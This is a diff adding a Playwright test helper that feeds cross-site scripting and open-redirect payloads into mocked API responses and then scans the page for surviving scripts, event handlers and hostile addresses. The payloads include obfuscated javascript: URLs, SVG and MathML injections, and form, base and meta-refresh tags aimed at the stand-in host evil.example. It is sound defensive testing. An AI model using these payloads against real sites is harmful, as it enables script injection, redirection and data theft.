@@ -1,0 +1,86 @@
+import type { Page } from '@playwright/test';
+
+/** HTML that tries to run a script, to send a form or to leave the page; every payload sets `window.pwned` or names evil.example. */
+export const HOSTILE_HTML = [
+  "<script>window.pwned='script'</script>",
+  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.pwned='onload'">`,
+  `<img src="data:image/gif;base64,AAAA" onerror="window.pwned='onerror'">`,
+  `<p onmouseover="window.pwned='hover'" onclick="window.pwned='click'">attack-text</p>`,
+  `<details open ontoggle="window.pwned='toggle'"><summary>attack-text</summary></details>`,
+  `<svg onload="window.pwned='svg'"><script>window.pwned='svg script'</script><a xlink:href="javascript:window.pwned='xlink'"><text>attack-text</text></a><animate onbegin="window.pwned='animate'" attributeName="x"></animate></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mathml'"></style></mglyph></table></mtext></math>`,
+  '<form action="https://evil.example"><input name="body"><button formaction="javascript:window.pwned=1">attack-text</button></form>',
+  `<iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe><iframe src="javascript:parent.pwned='frame'"></iframe>`,
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
+  '<a href="javascript:window.pwned=1">attack-text</a><a href="JaVa&#115;cript:window.pwned=1">attack-text</a><a href="java&#10;script:window.pwned=1">attack-text</a>',
+  '<a href="//evil.example/">attack-text</a><a href="/&#92;evil.example/">attack-text</a><a href="data:text/html,<script>opener.pwned=1</script>">attack-text</a>',
+].join('');
+
+/** Addresses that lead off the site or run a script, in the disguises that browsers undo. */
+export const HOSTILE_ADDRESSES = [
+  'javascript:window.pwned=1',
+  'JaVaScRiPt:window.pwned=1',
+  '\tjavascript:window.pwned=1',
+  'java\nscript:window.pwned=1',
+  '\u0001javascript:window.pwned=1',
+  'data:text/html,<script>opener.pwned=1</script>',
+  'vbscript:window.pwned=1',
+  '//evil.example/',
+  '/\\evil.example/',
+  '/\t/evil.example/',
+  'http://evil.example/',
+];
+
+/** Fields that hold an address to go to. A picture's address runs nothing and is left as it is, so that the page looks like the page. */
+const ADDRESS = /^(?:.*link|.*url|href|routerPath|hrefUrl|applink)$/i;
+const PICTURE = /img|image|pic|icon|logo/i;
+/** Fields that decide what the page asks for next, or are compared: an attack there would only make the page empty. */
+const STRUCTURE = /(?:^|[a-z])(?:id|ids|type|status|no|page|total|path|name|code|date)$/i;
+
+let turn = 0;
+
+/** The answer with every address replaced by an attack and the HTML corpus put behind every text. */
+function poison(value: unknown, key = ''): unknown {
+  if (Array.isArray(value)) return value.map((item) => poison(item, key));
+  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, poison(inner, name)]));
+  if (typeof value !== 'string') return value;
+  if (/^(?:\/mock-assets|data:image)/.test(value) || PICTURE.test(key)) return value;
+  if (ADDRESS.test(key) || /^(?:https?:|\/)/.test(value)) return HOSTILE_ADDRESSES[turn++ % HOSTILE_ADDRESSES.length];
+  return STRUCTURE.test(key) && !value.includes('<') ? value : value + HOSTILE_HTML;
+}
+
+/** Lets the mock answer and poisons every success on its way to the page. Answers how many strings' worth of answers were changed. */
+export async function poisonAnswers(page: Page): Promise<() => number> {
+  let changed = 0;
+  await page.route('**/api/**', async (route) => {
+    // A call that the page gave up, or that outlives the test, has no answer to change.
+    const response = await route.fetch().catch(() => undefined);
+    const body = (await response?.json().catch(() => undefined)) as { status?: string; data?: unknown } | undefined;
+    if (response === undefined || body === undefined) return;
+    if (body.status !== '0' || body.data === undefined) return route.fulfill({ response });
+    changed += 1;
+    return route.fulfill({ response, json: { ...body, data: poison(body.data) } });
+  });
+  return () => changed;
+}
+
+/** What in the document could still be used for an attack: scripts of others, handlers, addresses. Empty when the page is safe. */
+export function remains(page: Page): Promise<string[]> {
+  return page.evaluate(() => {
+    const found: string[] = [];
+    if ('pwned' in window) found.push(`executed: ${String(window.pwned)}`);
+    for (const element of document.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        if (name.startsWith('on')) found.push(`${element.tagName} ${name}`);
+        if (!['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'].includes(name)) continue;
+        // What the browser would make of it: without the characters that it drops.
+        // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this looks for
+        const read = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
+        if (/^(?:javascript|vbscript):|^data:text|evil\.example/.test(read)) found.push(`${element.tagName} ${name}=${value}`);
+      }
+    }
+    for (const element of document.querySelectorAll('base, object, embed, iframe[srcdoc], svg script, meta[http-equiv=refresh]')) found.push(element.outerHTML);
+    return found;
+  });
+}
